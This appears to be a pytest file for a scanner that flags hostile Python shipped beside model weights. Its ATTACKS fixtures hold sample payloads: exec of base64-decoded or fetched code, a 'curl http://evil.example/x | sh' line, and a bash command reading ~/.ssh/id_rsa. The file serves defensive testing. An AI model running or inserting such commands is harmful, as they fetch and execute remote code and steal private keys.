"""Python beside weights: always a skip; what only an attack does on import is named."""

import pytest
from format_items import hostile, item_of, results, rules, survives

from mithridate.core.results import Severity, Skip

ORDINARY = '''"""A network."""
import math
import os
from typing import Optional

import torch
from torch import nn
from .configuration_x import XConfig

try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None

CACHE = os.environ.get("X_CACHE", "~/.cache")


class XModel(nn.Module):
    def __init__(self, config: XConfig):
        super().__init__()
        self.net = nn.Linear(config.size, config.size)
        self.eval()

    def forward(self, x):
        return torch.compile(self.net)(x)

    @classmethod
    def convert(cls):
        import subprocess

        subprocess.run(["make", "-C", "kernels"], check=True)


if __name__ == "__main__":
    os.system("nvidia-smi")
'''

ATTACKS = {
    "exec-b64": ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "PACKED_CODE"),
    "in a function": ("import base64 as b\ndef f():\n    exec(b.b64decode('x').decode())", "PACKED_CODE"),
    "through a name": (
        "import zlib\nx = zlib.decompress(b'')\ny = x.decode()\neval(compile(y, '', 'exec'))",
        "PACKED_CODE",
    ),
    "fetched": (
        "from urllib.request import urlopen\nexec(urlopen('http://evil.example').read())",
        "PACKED_CODE",
    ),
    "marshal": ("import marshal\nexec(marshal.loads(b''))", "PACKED_CODE"),
    "__import__": ("__import__('os').system('id')", "RUNS_ON_IMPORT"),
    "getattr": ("import os\ngetattr(os, 'system')('id')", "RUNS_ON_IMPORT"),
    "system": ("import os as o\no.system('id')", "RUNS_ON_IMPORT"),
    "from": ("from subprocess import Popen as P\nP(['id'])", "RUNS_ON_IMPORT"),
    "class body": ("import os\nclass M:\n    os.popen('id')", "RUNS_ON_IMPORT"),
    "called": ("import os\ndef _f():\n    os.system('id')\n_f()", "RUNS_ON_IMPORT"),
    "default": ("import os\ndef f(x=os.system('id')): pass", "RUNS_ON_IMPORT"),
    "decorator": ("import os\n@os.system\ndef f(): pass\ndef g(x=os.system('a')): pass", "RUNS_ON_IMPORT"),
    "socket": ("import socket\ns = socket.socket()", "RUNS_ON_IMPORT"),
    "shell": ("import os\ndef f():\n    os.system('curl http://evil.example/x | sh')", "SHELL_COMMAND"),
    "list": (
        "import subprocess\ndef f():\n    subprocess.run(['bash', '-c', 'cat ~/.ssh/id_rsa'])",
        "SHELL_COMMAND",
    ),
}


def _item(source, inside=None, name="modeling_x.py"):
    return item_of(source.encode(), "python", name, inside=inside)


def test_ordinary_code_is_a_skip():
    (skip,) = results("python-code", _item(ORDINARY))
    assert isinstance(skip, Skip)
    assert skip.reason == (
        "code that runs with trust_remote_code is not analysed; it imports "
        "flash_attn, math, os, subprocess, torch, typing"
    )


@pytest.mark.parametrize("name", ATTACKS)
def test_obvious_attacks(name):
    source, rule = ATTACKS[name]
    assert {rule, "skip"} <= rules("python-code", _item(source), Severity.LIKELY)


def test_torchscript_is_not_python():
    archive = item_of(b"", "torchscript", "x/code/a.pt")
    attack = "import os\nos.system('id')"
    assert results("python-code", _item(attack, archive, "x/code/a.pt!a/code/__torch__.py")) == []
    assert results("python-code", _item(attack, archive, "x/code/a.pt!code/__torch__.py")) == []
    assert rules("python-code", _item(attack, archive, "x/code/a.pt!a/x.py")) == {"RUNS_ON_IMPORT", "skip"}


@pytest.mark.parametrize(
    "source",
    [
        "",
        "\0",
        "print 1",
        "(" * 5_000,
        "-" * 200_000 + "1",
        "a." * 200_000 + "b",
        "x = " + "[" * 90,
        "\ufeffx = 1",
        "f(" * 80 + ")" * 80,
    ],
)
def test_hostile(source):
    assert rules("python-code", _item(source)) == {"skip"}


def test_any_bytes():
    survives("python-code", "python", hostile(ORDINARY.encode(), span=len(ORDINARY)))
    survives("python-code", "python", [b"# coding: nope\nx = 1", b"# coding: utf-7\nx", b"\xff\xfe"])
